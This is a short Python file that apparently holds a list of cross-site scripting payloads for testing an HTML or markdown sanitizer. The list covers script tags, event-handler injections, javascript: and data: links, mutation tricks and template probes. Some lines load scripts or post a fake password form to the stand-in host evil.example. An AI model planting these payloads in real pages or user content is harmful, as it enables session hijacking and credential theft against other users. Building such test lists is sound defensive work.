"""What somebody might put into a body, title, tag or name to run something in a colleague's browser."""

ATTACKS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<img src="javascript:alert(1)">
<img src="data:text/html,<script>alert(1)</script>">
<img src=//evil.example/pixel.gif>
<img src=x style="background:url(javascript:alert(1))">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<form action="https://evil.example/"><input name=password><button>Sign in</button></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<select onchange=alert(1)><option>1</select>
<keygen autofocus onfocus=alert(1)>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/) }</style>
<style>@import 'https://evil.example/x.css';</style>
<p style="position:fixed;inset:0;background:red">x</p>
<div style="width:expression(alert(1))">x</div>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example/">x</a>
<a href="https://example.org" onclick="alert(1)">x</a>
<a href="https://example.org" onmouseover=alert(1)>x</a>
<a href="https://example.org" target=_blank ping="https://evil.example/">x</a>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](https://example.org "onclick=alert(1) x=")
[x]: javascript:alert(1)
<javascript:alert(1)>
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
![x" onerror="alert(1)](x.png)
![x](x" onerror="alert(1))
<details open ontoggle=alert(1)><summary>x</summary></details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<p id="content" name="forms">x</p>
<span class="skip" id="id_body">x</span>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</p></div></main><script>alert(1)</script>
[[<img src=x onerror=alert(1)>]]
#<script>alert(1)</script>
@<img src=x onerror=alert(1)>
x[^1]<br>[^1]: <img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`<img src=x onerror=alert(1)>
| <img src=x onerror=alert(1)> | b |
{{ request }}{% debug %}
""".strip().splitlines()
